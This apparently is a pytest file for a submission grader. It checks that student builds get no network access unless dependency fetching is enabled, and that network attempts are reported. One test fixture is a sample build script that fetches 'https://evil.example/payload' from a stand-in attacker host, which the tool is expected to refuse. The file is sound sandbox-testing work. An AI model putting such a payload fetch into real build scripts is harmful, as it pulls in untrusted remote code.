"""Submissions that depend on something: a build has no network, unless it may fetch."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from kit.desk import Desk

FIRST = ("--only", "1.1")

TRIES = """
import urllib.request
try:
    urllib.request.urlopen("https://evil.example/payload", timeout=20)
except OSError as error:
    print(error)
"""


def project(desk: Desk, **files: str) -> Path:
    """The correct echo server, in a folder with other files."""
    folder = desk.folder / "handed-in"
    folder.mkdir()
    desk.echo("import no_such_thing" * ("requirements_txt" in files), name="handed-in/server.py")
    for name, text in files.items():
        (folder / name.replace("_", ".", 1)).write_text(text)
    return folder


def test_what_needs_a_network_costs_nothing(desk: Desk) -> None:
    checked = desk.check(project(desk, requirements_txt="no-such-thing==1.0\n"), *FIRST)
    verdict = checked.verdicts["1.1"]
    assert verdict["outcome"] == "inconclusive", checked.stdout
    assert "it needs its dependencies: run with --fetch-dependencies" in verdict["reason"]
    assert checked.status == 3


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_registry_that_cannot_be_reached_costs_nothing_either(scheme: str, desk: Desk) -> None:
    """Without TLS pip says of one that it does not have what it was asked for."""
    folder = project(desk, requirements_txt="no-such-thing==1.0\n")
    with socket.socket() as away:
        away.bind(("127.0.0.1", 0))  # ours, and nobody listens
        url = f"{scheme}://127.0.0.1:{away.getsockname()[1]}/simple"
        checked = desk.check(folder, *FIRST, "--fetch-dependencies", PIP_INDEX_URL=url)
    assert checked.verdicts["1.1"]["outcome"] == "inconclusive", checked.stdout
    assert checked.status == 3


@pytest.mark.parametrize("fetch", [False, True])
def test_what_a_build_tries_to_reach_is_told(desk: Desk, fetch: bool) -> None:
    """Where it goes by the proxy; without, there is nothing that it could ask."""
    manifest = "build = ['python3', 'build.py']\ncommand = ['python3', 'server.py']\n"
    folder = project(desk, submission_toml=manifest, build_py=TRIES)
    checked = desk.check(folder, *FIRST, *["--fetch-dependencies"] * fetch)
    assert checked.outcomes == {"1.1": "passed"}, checked.stdout
    told = "the build tried to reach evil.example:443: refused" in " ".join(checked.run["notes"])
    assert told is fetch


def test_the_command_to_see_it_again_fetches_too(desk: Desk) -> None:
    folder = project(desk, submission_toml="command = ['python3', 'server.py', 'x']\n")
    (folder / "server.py").write_text("raise SystemExit(1)\n")
    checked = desk.check(folder, *FIRST, "--fetch-dependencies")
    assert "--fetch-dependencies" in checked.verdicts["1.1"]["again"], checked.verdicts["1.1"]
